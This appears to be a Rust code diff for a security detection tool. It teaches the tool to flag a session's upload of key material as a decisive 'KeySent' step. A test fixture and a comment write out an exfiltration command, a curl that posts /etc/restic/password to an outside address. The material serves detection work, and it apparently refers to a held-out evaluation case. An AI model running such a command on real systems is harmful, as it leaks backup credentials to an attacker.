@@ -128,6 +128,10 @@ pub struct Act {
     /// address not inside the host's or its private networks (or of unknown address), a
     /// contact with such a host, a download.
     pub outside: bool,
+    /// A decisive step ([`decisive`]) its record shows besides an activity of another kind
+    /// (a copy tool's upload that sends key material: `Activity::Outbound` or `Contact`,
+    /// and `Step::KeySent`), for [`container_step`], which reads activities alone.
+    decisive: Option<(Step, String)>,
 }
 
 /// One thing the session did, relative to the alert.
@@ -291,7 +295,12 @@ fn container_step(a: &Act) -> Option<(&'static str, &'static str, String)> {
             Step::PrivilegedWrite.as_str_ja(),
             p.clone(),
         )),
-        _ => None,
+        // The record's decisive step behind an activity of another kind (the blind
+        // holdout32: a unit's added `curl -d @/etc/restic/password` to an outside address).
+        _ => a
+            .decisive
+            .as_ref()
+            .map(|(st, what)| (st.as_str(), st.as_str_ja(), what.clone())),
     }
 }
 
@@ -684,6 +693,7 @@ impl Sessions {
                 excused: None,
                 parent: None,
                 outside: false,
+                decisive: None,
             });
             return;
         }
@@ -752,6 +762,10 @@ impl Sessions {
             Activity::ExecDropped(_) => text(&r.event, "proc.pname"),
             _ => None,
         };
+        let decisive = (!matches!(act, Activity::Step(..)))
+            .then(|| attack_step(&r.event))
+            .flatten()
+            .filter(|(st, what)| decisive(*st, what));
         sess.acts.push(Act {
             time: r.event.timestamp_ns(),
             index: i,
@@ -759,6 +773,7 @@ impl Sessions {
             excused,
             parent,
             outside,
+            decisive,
         });
     }
 
@@ -1844,6 +1859,20 @@ mod tests {
             with("systemd", "systemd", 5 * S, "4b1d90e7aa01"),
             None,
             "a container"
+        );
+        // A unit's added upload of key material: a connection out as an activity, and
+        // the decisive step behind it (the blind holdout32's restic unit).
+        let upload = format!(
+            r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":530,"proc.pid":530,"proc.ppid":1,"evt.rawtime":{},"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s -d @/etc/restic/password http://198.51.100.12/p","proc.pname":"systemd"}}"#,
+            112 * S
+        );
+        assert_eq!(
+            trace(vec![
+                unit(500, "systemd", 100 * S),
+                read(500, 110 * S),
+                upload
+            ]),
+            Some((Step::KeySent.as_str(), "/etc/restic/password".to_string()))
         );
         // Without the other session's step: nothing.
         let quiet = vec![
